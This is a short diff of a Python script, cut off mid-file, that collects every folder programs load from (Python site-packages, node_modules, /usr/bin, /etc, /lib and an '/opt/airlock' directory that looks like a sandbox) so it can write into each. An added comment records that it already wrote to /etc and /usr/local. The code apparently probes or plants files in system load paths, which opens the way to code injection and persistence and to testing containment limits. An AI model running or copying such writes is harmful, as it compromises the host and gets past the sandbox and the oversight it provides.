@@ -1,5 +1,6 @@
 # Writes into every folder from which a program is loaded.
 # next: must see the same
+# own: wrote to /(etc|usr/local/)
 import os, site, sys
 folders = set(sys.path) | set(site.getsitepackages()) | {site.getusersitepackages(), "/usr/local/lib/python3/dist-packages", "/usr/lib/python3/dist-packages", "/opt/airlock/python", "/opt/airlock", "/usr/lib/node_modules", "/usr/local/bin", "/usr/bin", "/etc", "/lib"}
 for folder in folders:
